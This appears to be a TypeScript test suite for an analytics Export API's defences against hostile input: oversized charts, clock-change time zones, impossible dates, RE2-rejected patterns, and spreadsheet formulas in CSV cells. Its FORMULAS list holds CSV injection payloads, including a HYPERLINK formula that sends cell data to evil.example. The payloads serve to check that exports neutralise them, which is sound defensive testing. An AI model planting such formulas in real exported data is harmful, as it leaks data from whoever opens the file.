import { createProject, type CreatedProject } from './setup/fixtures';
import { authHeaders, drainEvents, useTestApp } from './setup/test-app';
import { parseCsv } from './setup/csv';

/**
 * The Export API's answers to the hostile-input findings of 2026-12 (D6, D13, D16, D19):
 * oversized charts, zones with unusual clock changes, spreadsheet formulas in CSV cells,
 * impossible or unsupported dates and patterns RE2 refuses. Every case goes through HTTP.
 */
describe('Export API: hostile charts, zones, dates, patterns and CSV cells', () => {
  const t = useTestApp({ EXPORT_RATE_LIMIT: '100000', TRACK_RATE_LIMIT: '100000' });
  let main: CreatedProject;

  const get = (url: string) => t.app.inject({ method: 'GET', url, headers: authHeaders(t.root) });
  const q = (params: Record<string, unknown>) =>
    new URLSearchParams(
      Object.entries(params).map(([k, v]): [string, string] => [k, typeof v === 'string' ? v : JSON.stringify(v)]),
    ).toString();
  const batch = async (p: CreatedProject, items: Record<string, unknown>[]) => {
    for (let i = 0; i < items.length; i += 1000) {
      const res = await t.app.inject({
        method: 'POST',
        url: '/track/batch',
        headers: authHeaders(p.writeClient),
        payload: { items: items.slice(i, i + 1000).map((payload) => ({ type: 'track', payload })) },
      });
      expect(res.statusCode).toBe(200);
    }
  };

  const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+2', '-3+4', '@SUM(1)', '\tcmd', '\rcmd'];

  beforeAll(async () => {
    main = await createProject(t, { name: 'Hostile' });
    const now = Date.now();
    // 30 breakdown groups within the last day.
    await batch(
      main,
      Array.from({ length: 30 }, (_, i) => ({
        name: 'grouped',
        properties: { i: String(i), __timestamp: new Date(now - (i + 1) * 60_000).toISOString() },
      })),
    );
    await batch(
      main,
      FORMULAS.map((name) => ({ name, profileId: `@${name}`, properties: { formula: name } })),
    );
    await drainEvents(t);
  });

  describe('D6: a chart answer has a size cap', () => {
    it("refuses the finding's request (20 series x previous x 3 breakdowns x 12 months hourly) at once, saying what the cap is and what to narrow", async () => {
      const events = Array.from({ length: 20 }, (_, i) => ({ name: '*', id: String(i) }));
      const started = Date.now();
      const res = await get(
        `/export/charts?${q({ projectId: main.id, interval: 'hour', range: '12m', previous: 'true', events, breakdowns: [{ name: 'properties.i' }, { name: 'profileId' }, { name: 'path' }] })}`,
      );
      expect(res.statusCode).toBe(400);
      expect(res.json()).toMatchObject({ status: 400, error: 'Bad Request' });
      expect(res.json().message).toMatch(
        /^This chart would hold \d+ values \(20 series x \d+ \+ \d+ previous hour buckets\) and an answer holds at most 200000: choose a coarser interval, a shorter range, fewer events or previous=false$/,
      );
      expect(Date.now() - started).toBeLessThan(5_000);
    });

    it('keeps fewer breakdown groups per series when series x groups x buckets would pass the cap', async () => {
      const events = Array.from({ length: 20 }, (_, i) => ({ name: 'grouped', id: String(i) }));
      const res = await get(
        `/export/charts?${q({ projectId: main.id, interval: 'hour', range: '30d', previous: 'true', events, breakdowns: [{ name: 'properties.i' }] })}`,
      );
      expect(res.statusCode).toBe(200);
      const series = res.json().series as { event: { id: string }; names: string[]; data: unknown[] }[];
      // 20 series x (720 + 720) values per group leave room for 6 groups each: the 6 largest.
      expect(series).toHaveLength(120);
      const values = series.reduce((n, s) => n + s.data.length * 2, 0);
      expect(values).toBeLessThanOrEqual(200_000);
      // Groups of equal size are cut by label order, so each series keeps the same six.
      expect(series.filter((s) => s.event.id === '0').map((s) => s.names[1])).toEqual(['0', '1', '10', '11', '12', '13']);
      // With fewer buckets the usual 50 largest groups are kept: all 30 here.
      const daily = await get(
        `/export/charts?${q({ projectId: main.id, range: '30d', events: [{ name: 'grouped' }], breakdowns: [{ name: 'properties.i' }] })}`,
      );
      expect(daily.json().series).toHaveLength(30);
    });
  });

  describe('D13: hourly charts lose no event in any zone', () => {
    /** Two events an hour (at :10 and :40) from two days before a clock change to two days after it. */
    const cases: [string, string][] = [
      ['Australia/Lord_Howe', '2024-10-06T15:30:00Z'],
      ['Australia/Lord_Howe', '2024-04-06T15:00:00Z'],
      ['America/Santiago', '2024-04-07T03:00:00Z'],
      ['America/Santiago', '2024-09-08T04:00:00Z'],
      ['America/Havana', '2024-03-10T05:00:00Z'],
      ['America/Havana', '2024-11-03T05:00:00Z'],
      ['Asia/Beirut', '2024-03-30T22:00:00Z'],
      ['Asia/Beirut', '2024-10-26T21:00:00Z'],
      ['Pacific/Chatham', '2024-04-06T14:00:00Z'],
      ['Pacific/Chatham', '2024-09-28T14:00:00Z'],
      ['Asia/Kathmandu', '2024-06-01T00:00:00Z'],
    ];

    it.each(cases)('%s around %s: the hourly and daily sums equal the number of events', async (timezone, change) => {
      const p = await createProject(t, { name: `Zone ${timezone} ${change}`, timezone });
      const at = Date.parse(change);
      const items = [];
      for (let h = -48; h < 48; h++) {
        for (const m of [10, 40])
          items.push({ name: 'tick', properties: { __timestamp: new Date(at + h * 3_600_000 + m * 60_000).toISOString() } });
      }
      await batch(p, items);
      await drainEvents(t);
      const day = (ms: number) => new Date(ms).toISOString().slice(0, 10);
      const range = { startDate: day(at - 3 * 86_400_000), endDate: day(at + 3 * 86_400_000) };
      const listed = await get(`/export/events?${q({ projectId: p.id, start: range.startDate, end: range.endDate, limit: '1' })}`);
      expect(listed.json().meta.totalCount).toBe(192);
      for (const interval of ['hour', 'day', 'minute'] as const) {
        const window =
          interval === 'minute'
            ? { startDate: new Date(at - 6 * 3_600_000).toISOString(), endDate: new Date(at + 6 * 3_600_000 - 1).toISOString() }
            : range;
        const res = await get(`/export/charts?${q({ projectId: p.id, interval, events: [{ name: 'tick' }], ...window })}`);
        expect(res.statusCode).toBe(200);
        expect(res.json().metrics.sum).toBe(interval === 'minute' ? 24 : 192);
        const dates = (res.json().series[0].data as { date: string }[]).map((d) => Date.parse(d.date));
        expect([...dates].sort((a, b) => a - b)).toEqual(dates);
        expect(new Set(dates).size).toBe(dates.length);
      }
    });
  });

  describe('D16: CSV cells cannot carry spreadsheet formulas', () => {
    it('prefixes a cell that starts with =, +, -, @, tab or carriage return with a quote; NDJSON keeps the value as sent', async () => {
      const csv = await get(`/export/events?${q({ projectId: main.id, format: 'csv', event: JSON.stringify(FORMULAS) })}`);
      expect(csv.statusCode).toBe(200);
      const rows = parseCsv(csv.body);
      const header = rows.shift()!;
      const names = rows.map((r) => r[header.indexOf('name')]).sort();
      expect(names).toEqual(FORMULAS.map((f) => `'${f}`).sort());
      expect(rows.map((r) => r[header.indexOf('profileId')]).sort()).toEqual(FORMULAS.map((f) => `'@${f}`).sort());
      // Properties are one JSON object per cell, which starts with a brace: left alone.
      expect(rows.map((r) => JSON.parse(r[header.indexOf('properties')]).formula).sort()).toEqual([...FORMULAS].sort());
      // Numbers are not text a spreadsheet could evaluate: they are written as they are.
      expect(rows.every((r) => r[header.indexOf('duration')] === '0')).toBe(true);

      const ndjson = await get(`/export/events?${q({ projectId: main.id, format: 'ndjson', event: JSON.stringify(FORMULAS) })}`);
      const events = ndjson.body
        .trimEnd()
        .split('\n')
        .map((l) => JSON.parse(l));
      expect(events.map((e) => e.name).sort()).toEqual([...FORMULAS].sort());
      expect(ndjson.body).toContain('"name":"-3+4","deviceId"');
      expect(ndjson.body).toContain('"name":"\\tcmd","deviceId"');
      expect(ndjson.body).not.toContain(`"'`);
    });
  });

  describe('D19: dates and patterns', () => {
    const createdAt = (operator: string, value: string) => [{ name: 'createdAt', operator, value: [value] }];

    it.each<[string, string, Record<string, unknown>, (string | number)[], RegExp]>([
      [
        'an impossible filter date',
        '/export/events',
        { filters: createdAt('gt', '2024-02-30') },
        ['filters', 0, 'value', 0],
        /^Not a valid date$/,
      ],
      [
        'an impossible filter date-time',
        '/export/events',
        { filters: createdAt('lt', '2024-04-31T10:00:00Z') },
        ['filters', 0, 'value', 0],
        /^Not a valid date$/,
      ],
      [
        'an impossible chart filter date',
        '/export/charts',
        { events: [{ name: '*', filters: createdAt('is', '2023-02-29') }] },
        ['events', 0, 'filters', 0, 'value', 0],
        /^Not a valid date$/,
      ],
      ['an impossible start', '/export/events', { start: '2024-02-30' }, ['start'], /^Not a valid date$/],
      ['year 1, parsed as year 1', '/export/events', { start: '0001-01-01' }, ['start'], /between 1900-01-01 and 2299-12-31/],
      [
        'year 1 in a filter',
        '/export/events',
        { filters: createdAt('gte', '0001-01-01') },
        ['filters', 0, 'value', 0],
        /between 1900-01-01 and 2299-12-31/,
      ],
      [
        'a year past 2299',
        '/export/charts',
        { events: [{ name: '*' }], startDate: '2024-01-01', endDate: '2300-01-01' },
        ['endDate'],
        /between 1900-01-01 and 2299-12-31/,
      ],
      [
        'a lone backslash pattern',
        '/export/events',
        { filters: [{ name: 'name', operator: 'regex', value: ['\\'] }] },
        ['filters', 0, 'value', 0],
        /RE2/,
      ],
      [
        'a pattern ending in a backslash',
        '/export/charts',
        { events: [{ name: '*', filters: [{ name: 'path', operator: 'regex', value: ['^ok$', 'abc\\'] }] }] },
        ['events', 0, 'filters', 0, 'value', 1],
        /RE2/,
      ],
    ])('%s is a 400 naming the field', async (_title, route, params, path, message) => {
      const res = await get(`${route}?${q({ projectId: main.id, ...params })}`);
      expect(res.statusCode).toBe(400);
      expect(res.json()).toMatchObject({ status: 400, error: 'Bad Request' });
      expect(res.json().details).toEqual([{ path, message: expect.stringMatching(message) }]);
    });

    it('a pattern ending in a backslash is refused by the stream too; an escaped backslash is a valid pattern', async () => {
      const stream = await get(
        `/export/events?${q({ projectId: main.id, format: 'ndjson', filters: [{ name: 'name', operator: 'regex', value: ['\\'] }] })}`,
      );
      expect(stream.statusCode).toBe(400);
      const escaped = await get(
        `/export/events?${q({ projectId: main.id, filters: [{ name: 'name', operator: 'regex', value: ['\\\\'] }] })}`,
      );
      expect(escaped.statusCode).toBe(200);
      expect(escaped.json().meta.totalCount).toBe(0);
    });

    it('dates from 1900 to 2299 are read as written, in filters and ranges alike', async () => {
      const all = await get(`/export/events?${q({ projectId: main.id, start: '1900-01-01', end: '2299-12-31', limit: '1' })}`);
      expect(all.statusCode).toBe(200);
      expect(all.json().meta.totalCount).toBe(36);
      const filtered = await get(
        `/export/events?${q({ projectId: main.id, filters: [...createdAt('gt', '1900-01-01'), ...createdAt('lt', '2299-12-31T23:59:59.999Z')], limit: '1' })}`,
      );
      expect(filtered.json().meta.totalCount).toBe(36);
      const none = await get(`/export/events?${q({ projectId: main.id, filters: createdAt('lt', '1999-12-31'), limit: '1' })}`);
      expect(none.json().meta.totalCount).toBe(0);
      const leap = await get(`/export/events?${q({ projectId: main.id, filters: createdAt('gt', '2024-02-29'), limit: '1' })}`);
      expect(leap.json().meta.totalCount).toBe(36);
    });
  });
});
